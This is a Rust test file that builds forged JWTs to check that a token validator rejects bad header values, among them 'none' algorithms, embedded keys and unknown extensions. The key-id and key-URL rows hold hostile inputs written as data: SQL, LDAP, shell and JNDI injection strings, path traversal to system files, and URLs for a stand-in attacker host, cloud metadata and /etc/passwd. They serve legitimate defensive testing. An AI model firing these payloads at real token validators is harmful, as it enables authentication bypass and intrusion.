//! Members of the header: which algorithm, what extension, which key, what kind of token.

use super::mint::{Door, Edit, Object, encode, mint, modulus, signed, signed_parts};
use super::{Case, Row};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (class, rows) in [
        ("alg", ALGORITHMS),
        ("extension", EXTENSIONS),
        ("kid", KEY_IDS),
        ("key", KEYS),
        ("typ", TYPES),
    ] {
        for (name, edits, expected) in rows {
            let token = signed(&Object::header().edited(edits), &Object::user());
            cases.push(Case::new(class, *name, Door::Development, token, expected));
        }
    }
    cases.extend(long());
    cases.extend(embedded());
    cases
}

/// Signed with RS256 by the trusted key, so that the header alone is wrong.
#[rustfmt::skip]
const ALGORITHMS: &[Row] = &[
    ("none", &[("alg", r#""none""#)], "alg"),
    ("None", &[("alg", r#""None""#)], "alg"),
    ("NONE", &[("alg", r#""NONE""#)], "alg"),
    ("nOnE", &[("alg", r#""nOnE""#)], "alg"),
    ("none by escapes", &[("alg", r#""\u006eone""#)], "alg"),
    ("empty", &[("alg", r#""""#)], "alg"),
    ("missing", &[("alg", "")], "alg"),
    ("null", &[("alg", "null")], "alg"),
    ("true", &[("alg", "true")], "alg"),
    ("a number", &[("alg", "256")], "alg"),
    ("a list", &[("alg", r#"["RS256"]"#)], "alg"),
    ("an object", &[("alg", r#"{"RS256":1}"#)], "alg"),
    ("rs256", &[("alg", r#""rs256""#)], "alg"),
    ("Rs256", &[("alg", r#""Rs256""#)], "alg"),
    ("a space after", &[("alg", r#""RS256 ""#)], "alg"),
    ("a space before", &[("alg", r#"" RS256""#)], "alg"),
    ("a line feed after", &[("alg", r#""RS256\n""#)], "alg"),
    ("NUL after", &[("alg", r#""RS256\u0000""#)], "alg"),
    ("full-width letters", &[("alg", r#""ＲＳ256""#)], "alg"),
    ("two algorithms", &[("alg", r#""RS256,none""#)], "alg"),
    ("RSA256", &[("alg", r#""RSA256""#)], "alg"),
    ("RS1", &[("alg", r#""RS1""#)], "alg"),
    ("RS384", &[("alg", r#""RS384""#)], "alg"),
    ("RS512", &[("alg", r#""RS512""#)], "alg"),
    ("PS256", &[("alg", r#""PS256""#)], "alg"),
    ("PS384", &[("alg", r#""PS384""#)], "alg"),
    ("PS512", &[("alg", r#""PS512""#)], "alg"),
    ("ES256", &[("alg", r#""ES256""#)], "alg"),
    ("ES256K", &[("alg", r#""ES256K""#)], "alg"),
    ("ES384", &[("alg", r#""ES384""#)], "alg"),
    ("ES512", &[("alg", r#""ES512""#)], "alg"),
    ("EdDSA", &[("alg", r#""EdDSA""#)], "alg"),
    ("Ed25519", &[("alg", r#""Ed25519""#)], "alg"),
    ("HS256", &[("alg", r#""HS256""#)], "alg"),
    ("HS384", &[("alg", r#""HS384""#)], "alg"),
    ("HS512", &[("alg", r#""HS512""#)], "alg"),
    ("dir", &[("alg", r#""dir""#)], "alg"),
    ("RSA-OAEP", &[("alg", r#""RSA-OAEP""#)], "alg"),
    ("RSA1_5", &[("alg", r#""RSA1_5""#)], "alg"),
    ("PBES2 with many rounds", &[("alg", r#""PBES2-HS256+A128KW""#), ("p2c", "2147483647")], "alg"),
    ("ML-DSA-44", &[("alg", r#""ML-DSA-44""#)], "alg"),
    ("the name in XML signatures", &[("alg", r#""http://www.w3.org/2001/04/xmldsig-more#rsa-sha256""#)], "alg"),
    ("only in another case of the name", &[("alg", ""), ("ALG", r#""RS256""#)], "alg"),
];

#[rustfmt::skip]
const EXTENSIONS: &[Row] = &[
    ("crit, empty", &[("crit", "[]")], "header: crit"),
    ("crit, unknown", &[("crit", r#"["http://example.com/UNDEFINED"]"#), ("http://example.com/UNDEFINED", "true")], "header: crit"),
    ("crit, without the member", &[("crit", r#"["unknown"]"#)], "header: crit"),
    ("crit, exp", &[("crit", r#"["exp"]"#), ("exp", "@3600")], "header: crit"),
    ("crit, registered member", &[("crit", r#"["alg"]"#)], "header: crit"),
    ("crit, empty name", &[("crit", r#"[""]"#)], "header: crit"),
    ("crit, twice the same", &[("crit", r#"["a","a"]"#), ("a", "1")], "header: crit"),
    ("crit, a string", &[("crit", r#""exp""#)], "header: crit"),
    ("crit, null", &[("crit", "null")], "header: crit"),
    ("crit, false", &[("crit", "false")], "header: crit"),
    ("crit, nested", &[("crit", r#"[["exp"]]"#)], "header: crit"),
    ("crit with b64", &[("crit", r#"["b64"]"#), ("b64", "false")], "header: crit"),
    ("crit by escapes", &[(r"\u0063rit", r#"["x"]"#)], "header: crit"),
    ("b64 false", &[("b64", "false")], "header: b64"),
    ("b64 true", &[("b64", "true")], "header: b64"),
    ("b64 text", &[("b64", r#""false""#)], "header: b64"),
    ("b64 null", &[("b64", "null")], "header: b64"),
    ("zip", &[("zip", r#""DEF""#)], "header: zip"),
    ("zip, empty", &[("zip", r#""""#)], "header: zip"),
    ("zip, null", &[("zip", "null")], "header: zip"),
    ("enc", &[("enc", r#""A256GCM""#)], "header: enc"),
    ("cty JWT", &[("cty", r#""JWT""#)], "header: cty"),
    ("cty jwt", &[("cty", r#""jwt""#)], "header: cty"),
    ("cty JSON", &[("cty", r#""application/json""#)], "header: cty"),
    ("cty, deserialisation", &[("cty", r#""application/x-java-serialized-object""#)], "header: cty"),
    ("jku", &[("jku", r#""https://attacker.invalid/keys""#)], "header: jku"),
    ("jku of our issuer", &[("jku", r#""$DEV/keys""#)], "header: jku"),
    ("jku to link-local", &[("jku", r#""http://169.254.169.254/metadata/identity""#)], "header: jku"),
    ("jku to a file", &[("jku", r#""file:///etc/passwd""#)], "header: jku"),
    ("jku, null", &[("jku", "null")], "header: jku"),
    ("x5u", &[("x5u", r#""https://attacker.invalid/cert.pem""#)], "header: x5u"),
    ("x5u to localhost", &[("x5u", r#""http://localhost:8080/""#)], "header: x5u"),
    ("x5c, empty", &[("x5c", "[]")], "header: x5c"),
    ("x5c, a certificate", &[("x5c", r#"["MIIBszCCARygAwIBAgIB"]"#)], "header: x5c"),
    ("jwk, empty", &[("jwk", "{}")], "header: jwk"),
    ("jwk, symmetric", &[("jwk", r#"{"kty":"oct","k":""}"#)], "header: jwk"),
    ("jwk, null", &[("jwk", "null")], "header: jwk"),
];

#[rustfmt::skip]
const KEY_IDS: &[Row] = &[
    ("missing", &[("kid", "")], "no kid"),
    ("missing, with x5t", &[("kid", ""), ("x5t", r#""$KID""#)], "no kid"),
    ("empty", &[("kid", r#""""#)], "no kid"),
    ("null", &[("kid", "null")], "no kid"),
    ("false", &[("kid", "false")], "no kid"),
    ("a number", &[("kid", "0")], "no kid"),
    ("a list", &[("kid", r#"["$KID"]"#)], "no kid"),
    ("an object", &[("kid", r#"{"$KID":1}"#)], "no kid"),
    ("another case of the name", &[("kid", ""), ("KID", r#""$KID""#)], "no kid"),
    ("upper case", &[("kid", r#""$KID-UPPER""#)], "unknown kid"),
    ("one character less", &[("kid", r#""$KID-SHORTER""#)], "unknown kid"),
    ("one character more", &[("kid", r#""$KIDA""#)], "unknown kid"),
    ("a space before", &[("kid", r#"" $KID""#)], "unknown kid"),
    ("a space after", &[("kid", r#""$KID ""#)], "unknown kid"),
    ("NUL after", &[("kid", r#""$KID\u0000""#)], "unknown kid"),
    ("a line feed after", &[("kid", r#""$KID\n""#)], "unknown kid"),
    ("a forged log line", &[("kid", r#""x\r\n{\"outcome\":\"allowed\"}""#)], "unknown kid"),
    ("a zero-width space", &[("kid", r#""$KID\u200b""#)], "unknown kid"),
    ("right to left", &[("kid", r#""\u202e$KID""#)], "unknown kid"),
    ("a Cyrillic letter", &[("kid", r#""sеcond-key""#)], "unknown kid"),
    ("full-width letters", &[("kid", r#""ｓecond-key""#)], "unknown kid"),
    ("padded base64", &[("kid", r#""$KID=""#)], "unknown kid"),
    ("traversal", &[("kid", r#""../../../../../../dev/null""#)], "unknown kid"),
    ("traversal, Windows", &[("kid", r#""..\\..\\..\\windows\\win.ini""#)], "unknown kid"),
    ("a path", &[("kid", r#""/proc/sys/kernel/randomize_va_space""#)], "unknown kid"),
    ("a URL", &[("kid", r#""https://attacker.invalid/key""#)], "unknown kid"),
    ("a file URL", &[("kid", r#""file:///dev/null""#)], "unknown kid"),
    ("SQL, union", &[("kid", r#""x' UNION SELECT 'secret' -- ""#)], "unknown kid"),
    ("SQL, tautology", &[("kid", r#""' OR '1'='1""#)], "unknown kid"),
    ("LDAP", &[("kid", r#""*)(kid=*""#)], "unknown kid"),
    ("a shell", &[("kid", r#""x|/usr/bin/id""#)], "unknown kid"),
    ("a shell, substitution", &[("kid", r#""$(id)""#)], "unknown kid"),
    ("a template", &[("kid", r#""{{7*7}}""#)], "unknown kid"),
    ("JNDI", &[("kid", r#""${jndi:ldap://attacker.invalid/a}""#)], "unknown kid"),
    ("wildcard", &[("kid", r#""*""#)], "unknown kid"),
    ("wildcard of SQL", &[("kid", r#""%""#)], "unknown kid"),
    ("a pattern", &[("kid", r#"".*""#)], "unknown kid"),
    ("an index", &[("kid", r#""0""#)], "unknown kid"),
    ("a prototype", &[("kid", r#""__proto__""#)], "unknown kid"),
    ("the text null", &[("kid", r#""null""#)], "unknown kid"),
];

/// Keys of the set that may not sign this token.
#[rustfmt::skip]
const KEYS: &[Row] = &[
    ("another trusted key", &[("kid", r#""second-key""#)], "signature"),
    ("without issuer, for v1.0 alone", &[("kid", r#""v1-key""#)], "key issuer"),
    ("of another tenant", &[("kid", r#""other-tenant-key""#)], "unknown kid"),
    ("of another cloud", &[("kid", r#""other-cloud-key""#)], "unknown kid"),
    ("of another issuer", &[("kid", r#""other-issuer-key""#)], "unknown kid"),
    ("for encryption", &[("kid", r#""encryption-key""#)], "unknown kid"),
    ("for signing alone", &[("kid", r#""sign-only-key""#)], "unknown kid"),
    ("for RS512", &[("kid", r#""rs512-key""#)], "unknown kid"),
    ("of another type", &[("kid", r#""ec-key""#)], "unknown kid"),
    ("with exponent 3", &[("kid", r#""small-exponent-key""#)], "unknown kid"),
    ("with exponent 1", &[("kid", r#""one-exponent-key""#)], "unknown kid"),
    ("whose id is there twice", &[("kid", r#""twice-key""#)], "unknown kid"),
];

#[rustfmt::skip]
const TYPES: &[Row] = &[
    ("missing", &[("typ", "")], "typ"),
    ("empty", &[("typ", r#""""#)], "typ"),
    ("null", &[("typ", "null")], "typ"),
    ("a number", &[("typ", "1")], "typ"),
    ("a list", &[("typ", r#"["JWT"]"#)], "typ"),
    ("jwt", &[("typ", r#""jwt""#)], "typ"),
    ("Jwt", &[("typ", r#""Jwt""#)], "typ"),
    ("a space after", &[("typ", r#""JWT ""#)], "typ"),
    ("NUL after", &[("typ", r#""JWT\u0000""#)], "typ"),
    ("application/jwt", &[("typ", r#""application/jwt""#)], "typ"),
    ("at+jwt", &[("typ", r#""at+jwt""#)], "typ"),
    ("AT+JWT", &[("typ", r#""AT+JWT""#)], "typ"),
    ("application/at+jwt", &[("typ", r#""application/at+jwt""#)], "typ"),
    ("JWE", &[("typ", r#""JWE""#)], "typ"),
    ("JOSE", &[("typ", r#""JOSE""#)], "typ"),
    ("JOSE+JSON", &[("typ", r#""JOSE+JSON""#)], "typ"),
    ("a DPoP proof", &[("typ", r#""dpop+jwt""#)], "typ"),
    ("a logout token", &[("typ", r#""logout+jwt""#)], "typ"),
    ("a security event", &[("typ", r#""secevent+jwt""#)], "typ"),
    ("a signed request of Microsoft's", &[("typ", r#""pop""#)], "typ"),
    ("an ID token", &[("typ", r#""id_token""#)], "typ"),
];

fn long() -> Vec<Case> {
    let row = |name: &'static str, characters: usize, expected| {
        let kid: Edit = ("kid", "");
        let header = Object::header().edited(&[kid]);
        let header = header.and("\"kid\"", &format!("\"{}\"", "k".repeat(characters)));
        let token = signed(&header, &Object::user());
        Case::new("kid", name, Door::Development, token, expected)
    };
    vec![
        row("of 1,000 characters", 1_000, "unknown kid"),
        row("of 4,000 characters", 4_000, "too long: header"),
        row("of 1,000,000 characters", 1_000_000, "too long: token"),
    ]
}

/// The trusted key itself, brought along: whose key it is must not come from the token.
fn embedded() -> Vec<Case> {
    let own = |n: &[u8], kid: &str| {
        format!(
            r#"{{"kty":"RSA","use":"sig","kid":"{kid}","n":"{}","e":"AQAB"}}"#,
            encode(n)
        )
    };
    let trusted = own(modulus(&mint().trusted), &mint().kid);
    let second = own(modulus(&mint().second), "attacker");
    let header = Object::header();
    let unnamed = Object::header().edited(&[("kid", "")]);
    let user = encode(Object::user().text().as_bytes());
    [
        (
            "jwk, the trusted key",
            header.clone().and("\"jwk\"", &trusted),
        ),
        ("jwk, another key", header.and("\"jwk\"", &second)),
        ("jwk, instead of a kid", unnamed.and("\"jwk\"", &trusted)),
    ]
    .into_iter()
    .map(|(name, header)| {
        let token = signed_parts(&encode(header.text().as_bytes()), &user);
        Case::new("extension", name, Door::Development, token, "header: jwk")
    })
    .collect()
}
